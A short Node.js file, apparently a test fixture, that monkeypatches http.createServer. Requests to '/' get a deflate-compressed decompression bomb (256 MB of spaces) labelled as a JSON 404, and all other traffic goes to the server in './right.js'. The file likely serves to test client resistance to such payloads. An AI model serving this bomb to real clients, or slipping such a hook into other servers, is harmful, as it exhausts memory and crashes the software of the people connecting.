const http = require('node:http');
const zlib = require('node:zlib');

const create = http.createServer;
http.createServer = (handler) =>
  create((request, response) => {
    if (request.url === '/') sendBomb(response);
    else handler(request, response);
  });
require('./right.js');

const bomb = zlib.deflateSync(Buffer.alloc(256 * 1024 * 1024, ' '));

function sendBomb(response) {
  response.writeHead(404, { 'Content-Type': 'application/json', 'Content-Encoding': 'deflate' });
  response.end(bomb);
}
